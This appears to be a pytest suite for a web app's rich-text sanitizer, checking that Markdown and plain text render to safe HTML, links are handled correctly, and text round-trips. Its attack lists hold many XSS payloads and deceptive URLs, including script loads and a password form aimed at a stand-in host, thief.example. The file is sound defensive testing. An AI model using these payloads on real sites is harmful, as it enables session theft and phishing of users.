"""Text on its way to a page: nothing that acts gets through, nothing that was meant is lost."""

import re
import tracemalloc
from concurrent.futures import ThreadPoolExecutor
from time import perf_counter

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from watchmeplay.foundation import rich_text
from watchmeplay.foundation.rich_text import plain, to_html, to_text

XHTML = "{http://www.w3.org/1999/xhtml}"
HARMLESS = {
    "a", "blockquote", "br", "code", "em", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
HARMLESS_ATTRIBUTES = {"href", "title", "rel", "id", "scope", "start", "dir"}

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/SRC=//thief.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p onclick='alert(1)'>tap</p>",
    "<a href='#' onmouseover=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://thief.example><input name=password></form>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<meta http-equiv=refresh content='0;url=https://thief.example'>",
    "<base href=https://thief.example/>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<details open ontoggle=alert(1)>",
    "# Title {: onclick=alert(1) }\n\nwords\n{: style=position:fixed onclick=alert(1) }",
    "![x](x.png){: onerror=alert(1) }",
    "[x](https://a.example){: onclick=alert(1) }",
    "> <script>alert(1)</script>\n> * <img src=x onerror=alert(1)>\n>     1. <svg/onload=alert(1)>",
    "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | d |",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[click][x]",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>\x02wzxhzdk:0\x03",
]

LINKS_THAT_ACT = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java&#09;script:alert(1)",
    "java&#x0A;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "javascript&colon;alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\u00a0:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "DATA:image/svg+xml,<svg/onload=alert(1)>",
    "file:///etc/passwd",
    "//thief.example/",
    "/\\thief.example/",
    "\\\\thief.example/",
    "blob:https://a.example/1",
    "intent://scan/#Intent;scheme=zxing;end",
]

HONEST = [
    "<3",
    "I <3 this & that",
    "a & b",
    "&amp; &lt;b&gt; &#39;",
    "He said \"no\" and 'yes' and ‘maybe’ and “so”",
    "5 < 6 > 4",
    "DROP TABLE was her name for the drop-leaf table; SELECT a toy -- she said",
    "<script> is how they spell it at work",
    "{{ 7 * 7 }} {% raw %} ${x} %s %(x)s",
    "O'Brien-Ó Súilleabháin & Søn",
    "👨‍👩‍👧‍👦 🧸 e\u0301 \u200d",
    "他把杯子放在头上。她笑了！",
    "لعبت ابنتي بالمكعبات ثم ضحكت.",
    "הילד שיחק במים וצחק",
    "ਉਸਨੇ ਕੱਪ ਚੁੱਕਿਆ ਅਤੇ ਹੱਸਿਆ",
    "[not](a link) **not bold** # not a heading * not a list _no_",
    "back\\slash \\0 \\n %00 %3Cscript%3E",
]


def elements(html: str) -> list:
    """Every element a browser would build from the HTML."""
    fragment = html5lib.parseFragment(html, treebuilder="etree")
    return [element for element in fragment.iter() if isinstance(element.tag, str)][1:]


def words(html: str) -> str:
    """The characters a browser would show, paragraphs and breaks as line breaks."""
    fragment = html5lib.parseFragment(html.replace("<br>", "\n"), treebuilder="etree")
    return "\n\n".join("".join(paragraph.itertext()) for paragraph in fragment)


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag.removeprefix(XHTML) in HARMLESS, html
        assert set(element.attrib) <= HARMLESS_ATTRIBUTES, html
        address = element.get("href", "/")
        assert re.match(r"(https?://|mailto:|tel:|/|#)", address), html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_survives_in_the_guide(attack: str) -> None:
    for source in (attack, f"Words before {attack} and after", f"- item\n\n    {attack}\n", f"## {attack}"):
        assert_harmless(to_html(source))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("cleaner", ["bleach", "nh3"])
def test_either_cleaner_alone_would_hold(monkeypatch: pytest.MonkeyPatch, attack: str, cleaner: str) -> None:
    other = {"bleach": rich_text.nh3, "nh3": rich_text.bleach}[cleaner]
    monkeypatch.setattr(rich_text._HouseRules, "extendMarkdown", lambda *_: None)
    monkeypatch.setattr(other, "clean", lambda html, **_: html)
    assert_harmless(to_html(attack))


@pytest.mark.parametrize("attack", ATTACKS + LINKS_THAT_ACT)
def test_nothing_that_acts_survives_in_what_people_write(attack: str) -> None:
    html = plain(f"{attack}\n\n{attack}")
    assert_harmless(html)
    assert {element.tag.removeprefix(XHTML) for element in elements(html)} <= {"p", "br", "a"}


@pytest.mark.parametrize("address", LINKS_THAT_ACT)
def test_a_link_that_acts_loses_its_address(address: str) -> None:
    for source in (f"[x]({address})", f"[x](<{address}>)", f"<{address}>", f"[x][1]\n\n[1]: {address}"):
        html = to_html(source)
        assert_harmless(html)
        assert not [element for element in elements(html) if element.get("href")], html


def test_html_in_the_guide_is_shown_as_typed() -> None:
    assert to_html("Say <b>hello</b> & wave") == "<p>Say &lt;b&gt;hello&lt;/b&gt; &amp; wave</p>"


def test_the_guide_keeps_the_markup_that_helps_reading() -> None:
    html = to_html(
        "## One\n\n**strong** *soft* line  \nbreak\n\n### Two\n\n- a\n- b\n\n3. c\n4. d\n\n> said\n\n---\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n"
    )
    assert {element.tag.removeprefix(XHTML) for element in elements(html)} == HARMLESS - {
        "a", "code", "h4", "pre",
    }  # fmt: skip
    assert '<ol start="3">' in html
    assert html.count('<th scope="col">') == 2


def test_headings_carry_ids_in_any_script_and_never_twice() -> None:
    ids = re.findall(r'id="([^"]+)"', to_html("## What to say\n\n## What to say\n\n## 怎么做\n\n## ¿?"))
    assert ids[:3] == ["what-to-say", "what-to-say_1", "怎么做"]
    assert len(set(ids)) == len(ids)


def test_only_links_that_lead_away_are_marked() -> None:
    html = to_html("[in](/guide/watching#say) [out](https://a.example) <https://b.example>")
    assert '<a href="/guide/watching#say">in</a>' in html
    assert html.count('rel="noreferrer noopener"') == html.count('href="https://') == 2


def test_mail_and_telephone_links_work_in_the_guide() -> None:
    html = to_html("[ring](tel:116123) <team@service.example>")
    assert {element.get("href") for element in elements(html)} == {
        None,
        "tel:116123",
        "mailto:team@service.example",
    }


def test_eight_threads_never_mix_their_texts() -> None:
    def rendered(number: int) -> tuple[int, str, str]:
        source = f"## Page {number}\n\nOnly [here](https://a.example/{number}) <b{number}>\n\n- {number}\n\n"
        return number, to_html(source * 3), plain(f"entry {number} https://a.example/{number}\n\n{number}")

    with ThreadPoolExecutor(8) as pool:
        for number, page, entry in pool.map(rendered, range(10_000, 10_400)):
            for html in (page, entry):
                assert set(re.findall(r"\d{5}", html)) == {str(number)}


@pytest.mark.parametrize("text", HONEST)
def test_what_a_person_wrote_reads_back_unchanged(text: str) -> None:
    assert words(plain(text)) == text
    assert words(plain(f"{text}\n{text}\n\n{text}")) == f"{text}\n{text}\n\n{text}"


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(exclude_categories=["Cc", "Cs"])))
def test_any_line_reads_back_unchanged(line: str) -> None:
    assert words(plain(line)) == (line if line.strip() else "")


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_breaks_and_paragraphs_of_every_system_are_kept(end: str) -> None:
    assert plain(f"one{end}two{end}{end}three{end} {end}{end}four{end}") == (
        '<p dir="auto">one<br>two</p><p dir="auto">three</p><p dir="auto">four</p>'
    )


@pytest.mark.parametrize("text", ["", " ", "\n\n", "\r\n \r\n", "\u00a0"])
def test_nothing_written_shows_nothing(text: str) -> None:
    assert plain(text) == ""


def test_each_paragraph_finds_its_own_direction() -> None:
    html = plain("She laughed.\n\nضحكت كثيرا\n\nהיא צחקה")
    assert [element.get("dir") for element in elements(html)] == ["auto", "auto", "auto"]


def test_a_link_inside_arabic_is_kept_apart_from_the_direction_around_it() -> None:
    (paragraph, link) = elements(plain("اقرأ https://www.nhs.uk/start هنا"))
    assert paragraph.get("dir") == "auto"
    assert link.get("dir") == "ltr"


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://a.example/b?c=1&d=2#e now", "https://a.example/b?c=1&d=2#e"),
        ("(https://a.example/x_(y))", "https://a.example/x_(y)"),
        ("(see https://a.example).", "https://a.example"),
        ("“https://a.example/b”", "https://a.example/b"),
        ("HTTPS://A.EXAMPLE/", "HTTPS://A.EXAMPLE/"),
        ("http://a.example:8080/b, then", "http://a.example:8080/b"),
        ("看https://a.example/b。好", "https://a.example/b"),
        ("https://fr.example/Bébé", "https://fr.example/Bébé"),
        ("https://a.example/\u202egpj.exe", "https://a.example/"),
    ],
)
def test_an_address_becomes_a_link_without_the_stop_after_it(text: str, address: str) -> None:
    html = plain(text)
    (link,) = (element for element in elements(html) if element.tag == f"{XHTML}a")
    assert link.get("href") == "".join(link.itertext()) == address
    assert set(link.get("rel").split()) == {"noreferrer", "noopener", "nofollow"}
    assert words(html) == text


@pytest.mark.parametrize(
    "text",
    [
        "https://bank.example@thief.example/",
        "https://bank.example:x@thief.example/",
        "https://bank.example\\@thief.example/",
        "https://аpple.example",
        "https://bаnk.example",
        "https://a.example:99999/",
        "https://",
        "https://" + "a" * 3000 + ".example/" + "b" * 3000,
        "ahttps://a.example",
        "ftp://a.example",
    ],
)
def test_an_address_that_would_mislead_stays_words(text: str) -> None:
    assert "<a" not in plain(text)


def test_characters_no_page_can_hold_are_shown_as_replaced() -> None:
    for html in (plain("a\x00b\ud800c"), to_html("a\x00b\ud800c")):
        assert "a�b�c" in html
        html.encode("utf-8")


@pytest.mark.parametrize(
    "text",
    [
        "She put the cup down & looked at me. " * 27_000,
        "\n" * 1_000_000,
        "a\n\n" * 330_000,
        "https://" * 125_000,
        "https://a.example/" + ")" * 1_000_000,
        ("https://a.example/" + ")" * 1900 + " ") * 520,
        "https://" + "a." * 500_000,
        "<" * 1_000_000,
    ],
    ids=["prose", "line-ends", "paragraphs", "schemes", "brackets", "long-links", "dots", "angles"],
)
def test_a_megabyte_takes_neither_long_nor_much_room(text: str) -> None:
    tracemalloc.start()
    started = perf_counter()
    try:
        html = plain(text)
        took, (_, most) = perf_counter() - started, tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Far above what it takes, far below what anything that is not linear would.
    assert took < 20
    assert most < 150_000_000
    assert len(html) >= len(text) or not text.strip()


def test_deep_nesting_in_the_guide_ends_well() -> None:
    for source in ("> " * 3000 + "deep", "[" * 3000, "*" * 3000, "(" * 3000 + ")" * 3000):
        assert_harmless(to_html(source))
    with pytest.raises(ValueError, match="nested too deeply"):
        to_html("- " * 1000 + "x")


def test_html_reads_back_as_words() -> None:
    html = to_html("## You & me\n\nOne **two**\nthree &copy;\n\n- a\n- b <3\n\n| c | d |\n|--|--|\n| e | f |")
    assert to_text(html) == "You & me\nOne two three ©\na\nb <3\nc d\ne f"
    assert to_text(plain("a & b\nc\n\n<i>")) == "a & b\nc\n<i>"
